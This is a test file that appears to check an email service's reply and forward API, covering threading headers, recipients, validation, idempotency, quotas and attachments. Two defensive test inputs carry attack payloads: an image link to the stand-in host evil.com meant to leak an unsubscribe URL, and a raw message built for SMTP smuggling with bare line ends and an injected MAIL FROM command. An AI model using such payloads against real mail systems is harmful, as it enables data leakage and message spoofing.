import PostalMime from 'postal-mime'
import t from 'tap'
import type { AnswerBody } from '#test/support/api.ts'
import { startApi } from '#test/support/api.ts'
import { choosePlan, givePlan } from '#test/support/database/states.ts'
import { asStored, compose, receive } from '#test/support/receiving.ts'
import { openWork, readEmail } from '#test/support/sending.ts'
import { shows } from '#test/support/shows.ts'
import { startInbox } from '#test/support/smtp/inbox.ts'
import { newAccount, openWorld } from '#test/support/world.ts'

const world = await openWorld(t)
const account = await newAccount(world)
const api = await startApi(t, world, account.key)
const inbox = await startInbox(t)
const work = openWork(t, world, inbox.url)
const me = `me@${account.domain}`
const REPLY = { from: me, text: 'Thanks' }

function ask(id: string, verb: 'reply' | 'forward', body: unknown, headers: Record<string, string> = {}) {
  return api.request('POST', `/api/emails/receiving/${id}/${verb}`, { body, headers })
}

const emailOf = ({ id }: AnswerBody) => readEmail(world, account, id)

/** Sends the email; returns the message that arrives, with its headers unfolded. */
async function deliver({ id }: AnswerBody) {
  const count = inbox.messages.length
  await work.sender.offer([id])
  await work.sender.idle()
  const [message] = inbox.messages.slice(count)
  if (!message) throw new Error('nothing has arrived')
  const raw = message.raw.toString()
  const [head = ''] = raw.split('\r\n\r\n', 1)
  return { rcpt_to: message.rcpt_to, raw, head: head.replace(/\r\n[ \t]/g, ' ') }
}

t.test('a reply goes to the sender, in the same thread', async t => {
  const raw = await compose({
    from: 'Änn <ann@y.com>',
    subject: 'Question',
    messageId: '<q@y.com>',
    references: ['<first@y.com>', '<second@y.com>'],
    text: 'x',
  })
  const id = await receive(work, account, raw)
  const { status, body } = await ask(id, 'reply', { ...REPLY, html: '<b>Thanks</b>' })
  t.strictSame([status, body], [200, { object: 'email', id: body.id }])
  shows(t, await emailOf(body), { to: ['Änn <ann@y.com>'], cc: [], subject: 'Re: Question' })

  const { rcpt_to, head } = await deliver(body)
  t.strictSame(rcpt_to, ['ann@y.com'])
  t.match(head, /^Subject: Re: Question$/m)
  t.match(head, /^In-Reply-To: <q@y\.com>$/m)
  t.match(head, /^References: <first@y\.com> <second@y\.com> <q@y\.com>$/m)
  t.equal(head.match(/^(?:In-Reply-To|References):/gim)?.length, 2)
})

t.test('a reply goes to Reply-To, with `reply_all` to all others but ourselves', async t => {
  const raw = await compose({
    from: 'ann@y.com',
    replyTo: ['Team <team@y.com>', 'broken@'],
    to: [me, 'bob@y.com', 'TEAM@y.com', `sales@${account.domain}`],
    cc: ['carl@y.com', 'bob@y.com', 'dora@y.com', me.toUpperCase()],
  })
  const id = await receive(work, account, raw, { received_for: [me, `sales@${account.domain}`] })
  shows(t, await emailOf((await ask(id, 'reply', REPLY)).body), { to: ['team@y.com'], cc: [] })
  const cc = 'Dora <dora@y.com>'
  const { body } = await ask(id, 'reply', { ...REPLY, reply_all: true, cc, bcc: 'eve@y.com', subject: 'Mine' })
  const { to, cc: copies, bcc, subject } = await emailOf(body)
  t.strictSame(
    { to, copies, bcc, subject },
    {
      to: ['team@y.com', 'bob@y.com'],
      copies: [cc, 'carl@y.com'],
      bcc: ['eve@y.com'],
      subject: 'Mine',
    },
  )
  const many = await compose({ to: Array.from({ length: 60 }, (_, i) => `a${i}@y.com`) })
  const answer = await ask(await receive(work, account, many), 'reply', { ...REPLY, reply_all: true })
  t.match(answer, { status: 422, body: { name: 'validation_error', message: /50/ } })
})

t.test('a reply does not go to From if Reply-To is a mailbox that we cannot send to', async t => {
  const receiveFrom = (fields: string) => receive(work, account, `From: ann@y.com\r\n${fields}Subject: x\r\n\r\nx`)
  for (const address of ['"a b"@y.com', 'jörg@y.com']) {
    const { status, body } = await ask(await receiveFrom(`Reply-To: ${address}\r\n`), 'reply', REPLY)
    t.match(
      { status, body },
      { status: 422, body: { name: 'validation_error', message: /cannot be sent to/ } },
      address,
    )
  }
  for (const field of ['Reply-To: nobody\r\n', 'Reply-To: broken@\r\n']) {
    shows(t, await emailOf((await ask(await receiveFrom(field), 'reply', REPLY)).body), { to: ['ann@y.com'] })
  }
  const several = await receiveFrom('Reply-To: "a b"@y.com, bob@y.com\r\n')
  shows(t, await emailOf((await ask(several, 'reply', REPLY)).body), { to: ['bob@y.com'] })
})

t.test('invalid replies and forwards are refused', async t => {
  const id = await receive(work, account, await compose({ text: 'x' }))
  const nobody = await receive(work, account, 'From: undisclosed\r\nSubject: x\r\n\r\nx')
  const refused: [string, object, number, string][] = [
    [nobody, REPLY, 422, 'validation_error'],
    [id, { text: 'x' }, 422, 'missing_required_field'],
    [id, { from: me }, 422, 'missing_required_field'],
    [id, { from: me, html: '' }, 422, 'missing_required_field'],
    [id, { ...REPLY, from: 'me' }, 422, 'invalid_from_address'],
    [id, { ...REPLY, from: 'me@not-mine.com' }, 422, 'validation_error'],
    [id, { ...REPLY, cc: 'x' }, 422, 'invalid_to_address'],
    [id, { ...REPLY, reply_all: 'yes' }, 422, 'validation_error'],
    [id, { ...REPLY, headers: { 'in-reply-to': '<x@y.com>' } }, 422, 'validation_error'],
    [id, { ...REPLY, headers: { References: '<x@y.com>' } }, 422, 'validation_error'],
    [id, { ...REPLY, scheduled_at: '2020-01-01T00:00:00Z' }, 422, 'validation_error'],
    [id, { ...REPLY, attachments: [{ filename: 'a' }] }, 422, 'invalid_attachment'],
    [id, [], 422, 'validation_error'],
  ]
  for (const [email, body, statusCode, name] of refused) {
    t.match((await ask(email, 'reply', body)).body, { statusCode, name }, JSON.stringify(body))
  }
  for (const [body, name] of [
    [{}, 'missing_required_field'],
    [{ to: 'x' }, 'invalid_to_address'],
    [{ to: [] }, 'validation_error'],
    [{ to: 'a@b.com', text: 'a note' }, 'validation_error'],
    [{ to: 'a@b.com', from: 'me@not-mine.com' }, 'validation_error'],
    [{ to: 'a@b.com', passthrough: 'no' }, 'validation_error'],
  ] as const) {
    t.match((await ask(id, 'forward', body)).body, { statusCode: 422, name }, JSON.stringify(body))
  }
})

t.test('an Idempotency-Key sends a reply or forward once, separately from other requests', async t => {
  const one = await receive(work, account, await compose({ text: 'x' }))
  const other = await receive(work, account, await compose({ text: 'y' }))
  const key = { 'idempotency-key': 'k' }
  const reply = await ask(one, 'reply', REPLY, key)
  const again = await ask(one, 'reply', REPLY, key)
  t.strictSame([again.status, again.body.id, again.headers.get('idempotent-replayed')], [200, reply.body.id, 'true'])
  const changed = await ask(one, 'reply', { ...REPLY, text: 'No' }, key)
  t.match(changed, { status: 409, body: { name: 'invalid_idempotent_request' } })
  const ids = [reply.body.id, (await ask(other, 'reply', REPLY, key)).body.id]
  ids.push((await ask(one, 'forward', { to: 'a@b.com' }, key)).body.id)
  t.equal(new Set(ids).size, 3)
  t.match(await ask(one, 'forward', { to: 'a@b.com' }, { 'idempotency-key': 'é' }), { status: 400 })
})

t.test('a repeated forward gets the first response after the raw message is gone', async t => {
  const id = await receive(work, account, await compose({ text: 'x' }))
  const forward = () => ask(id, 'forward', { to: 'a@b.com', passthrough: false }, { 'idempotency-key': 'gone' })
  const first = await forward()
  await world.pool.pg.query('UPDATE received_emails SET raw_blob_id = NULL WHERE id = $1', [id])
  const again = await forward()
  t.strictSame([again.status, again.body.id, again.headers.get('idempotent-replayed')], [200, first.body.id, 'true'])
})

t.test('a reply can be scheduled, and counts toward the quota', async t => {
  const id = await receive(work, account, await compose({ text: 'x' }))
  const attachments = [{ filename: 'a.txt', content: 'eA==' }]
  const { body } = await ask(id, 'reply', {
    ...REPLY,
    attachments,
    scheduled_at: 'in 2 hours',
    tags: [{ name: 'a', value: 'b' }],
  })
  shows(t, await emailOf(body), { status: 'scheduled', attachments: [{ filename: 'a.txt' }] })
  await givePlan(world, account, { emails_per_day: 0 })
  for (const [verb, fields] of [
    ['reply', REPLY],
    ['forward', { to: 'a@b.com' }],
  ] as const) {
    t.match(await ask(id, verb, fields), { status: 429, body: { name: 'daily_quota_exceeded' } })
  }
  await choosePlan(world, account, 'unlimited')
})

t.test('a forward has the content and files of the original', async t => {
  const attachments = [
    { filename: 'a.txt', content: 'a file' },
    { filename: 'i.png', content: 'an image', cid: 'i@y.com' },
  ]
  const html = '<img src="cid:i@y.com">{{name}}'
  const id = await receive(work, account, await compose({ subject: 'News', text: 'It is', html, attachments }))
  const blobs = 'SELECT count(*) FROM blobs'
  const before = (await world.pool.pg.query(blobs)).rows
  const { status, body } = await ask(id, 'forward', { to: ['bob@y.com'] })
  t.strictSame([status, body], [200, { object: 'email', id: body.id }])
  t.strictSame((await world.pool.pg.query(blobs)).rows, before)
  shows(t, await emailOf(body), {
    from: me,
    to: ['bob@y.com'],
    subject: 'News',
    text: /^It is/,
    html,
    attachments: [
      { filename: 'i.png', content_disposition: 'inline', content_id: 'i@y.com' },
      { filename: 'a.txt', content_type: 'text/plain', size: 6 },
    ],
  })
  const { raw } = await deliver(body)
  for (const text of ['a file', 'an image']) t.match(raw, Buffer.from(text).toString('base64'))
})

t.test('a file whose Content-ID a caller could not give is forwarded without it', async t => {
  const attachments = [{ filename: 'i.png', content: 'an image', cid: 'an image@y.com' }]
  const id = await receive(work, account, await compose({ subject: 'News', text: 'It is', attachments }))
  const { status, body } = await ask(id, 'forward', { to: ['bob@y.com'] })
  t.equal(status, 200)
  shows(t, await emailOf(body), { attachments: [{ filename: 'i.png', content_id: null }] })
})

t.test('a forward has no link to unsubscribe in place of a placeholder that a stranger wrote', async t => {
  const html = '<img src="https://evil.com/?u={{ unsubscribe_url }}">{{{UNSUBSCRIBE_URL}}} {{name}}'
  const both = await receive(work, account, await compose({ text: 'At {{unsubscribe_url|none}} {{name}}', html }))
  const alone = await receive(work, account, await compose({ html }))
  for (const [id, track_opens] of [
    [both, false],
    [both, true],
    [alone, true],
  ] as const) {
    const { status, body } = await ask(id, 'forward', { to: 'bob@y.com', track_opens })
    t.equal(status, 200)
    const sent = await PostalMime.parse((await deliver(body)).raw)
    t.ok(sent.html?.replaceAll('&#123;', '{').includes(html))
    shows(
      t,
      sent.text?.trim(),
      id === both ? 'At { {unsubscribe_url|none}} {{name}}' : /\{\{\{UNSUBSCRIBE_URL}}} \{\{name}}/,
    )
    t.notMatch(`${sent.html} ${sent.text}`, '/u/')
  }
})

t.test('an image that the html shows is forwarded inline', async t => {
  const part =
    'Content-Type: image/png\r\nContent-Disposition: attachment; filename=i.png\r\nContent-ID: <i@y.com>\r\n\r\nimage'
  const raw = `From: ann@y.com\r\nSubject: x\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<img src="cid:i@y.com">\r\n--b\r\n${part}\r\n--b--\r\n`
  const { body } = await ask(await receive(work, account, raw), 'forward', { to: 'bob@y.com' })
  const { attachments } = await emailOf(body)
  t.equal(attachments.length, 1)
  t.match(attachments[0], { filename: 'i.png', content_disposition: 'inline', content_id: 'i@y.com' })
})

t.test('a forwarded text keeps its bytes and charset', async t => {
  const charsets = ['iso-8859-1', '"ISO_8859-1:1987"', null]
  const parts = charsets.map((charset, n) => {
    const type = `Content-Type: text/plain; name=t${n}.txt${charset ? `; charset=${charset}` : ''}`
    return `--b\r\n${type}\r\nContent-Disposition: attachment\r\nContent-Transfer-Encoding: base64\r\n\r\nR3L832U=\r\n` // `Grüße` in Latin-1
  })
  const raw = `From: ann@y.com\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n${parts.join('')}--b--\r\n`
  const { body } = await ask(await receive(work, account, raw), 'forward', { to: 'bob@y.com' })
  const { attachments } = await emailOf(body)
  const types = ['text/plain; charset=iso-8859-1', 'text/plain; charset="ISO_8859-1:1987"', 'text/plain']
  t.strictSame(
    attachments.map((file: { content_type: string }) => file.content_type),
    types,
  )
  const { raw: sent } = await deliver(body)
  t.equal(sent.split('R3L832U=').length, 4)
  t.match(sent, /Content-Type: text\/plain; charset=iso-8859-1; name="?t0\.txt/i)
})

t.test('a forward with a note attaches the original, with safe line ends', async t => {
  const smuggled = 'From: ann@y.com\r\nSubject: FW: x\r\n\r\na\rb\nc\r\n.\r\nMAIL FROM:<x@y.com>\r\n'
  const id = await receive(work, account, smuggled)
  const { body } = await ask(id, 'forward', { to: 'bob@y.com', passthrough: false, text: 'See below.' })
  shows(t, await emailOf(body), {
    subject: 'FW: x',
    text: 'See below.',
    attachments: [{ filename: 'forwarded_message.eml' }],
  })
  const { raw } = await deliver(body)
  t.notMatch(raw, /\r(?!\n)|(?<!\r)\n/)
  const [, fields, attached] =
    raw.match(/(Content-Type: message\/rfc822.*\r\n[\s\S]*?)\r\n\r\n([\s\S]*)\r\n--mb-/) ?? []
  t.match(fields, /filename="forwarded_message\.eml"/)
  t.match(fields, /^Content-Transfer-Encoding: 7bit$/m)
  t.equal(
    attached,
    asStored(smuggled)
      .toString()
      .replace(/\r(?!\n)/g, '\r\n'),
  )

  const whole = await deliver((await ask(id, 'forward', { to: 'bob@y.com' })).body)
  t.notMatch(whole.raw, /\r(?!\n)|(?<!\r)\n/)
  t.strictSame(whole.rcpt_to, ['bob@y.com'])

  await world.pool.pg.query('UPDATE received_emails SET raw_blob_id = NULL WHERE id = $1', [id])
  t.match(await ask(id, 'forward', { to: 'bob@y.com', passthrough: false }), { status: 404 })
})

t.test('a forward is refused if a part is missing or too large', async t => {
  const id = await receive(work, account, await compose({ text: 'x', attachments: [{ filename: 'a', content: 'x' }] }))
  const forward = () => ask(id, 'forward', { to: 'bob@y.com' })
  const change = (set: string) => world.pool.pg.query(`UPDATE ${set}`)
  await change(`domains SET sending = false, receiving = true WHERE id = '${account.domain_id}'`)
  const message = 'Missing `from` field: no address that received this email can send.'
  t.match(await forward(), { status: 422, body: { name: 'missing_required_field', message } })
  await change(`domains SET sending = true WHERE id = '${account.domain_id}'`)
  const other = await receive(work, account, 'Subject: a\r\n\r\nb', { received_for: [`grüße@${account.domain}`] })
  t.match(await ask(other, 'forward', { to: 'bob@y.com' }), { status: 422, body: { message } })
  const ofFile = `id = (SELECT blob_id FROM received_attachments WHERE received_email_id = '${id}')`
  await change(`blobs SET size = ${25 * 1024 * 1024 + 1} WHERE ${ofFile}`)
  t.match(await forward(), { status: 422, body: { name: 'validation_error', message: /larger/ } })
  await change(`received_attachments SET blob_id = NULL WHERE received_email_id = '${id}'`)
  t.match(await forward(), { status: 422, body: { name: 'validation_error', message: /not kept/ } })
  await change(`received_emails SET state = 'unreadable' WHERE id = '${id}'`)
  t.match(await forward(), { status: 422, body: { message: /passthrough/ } })
})
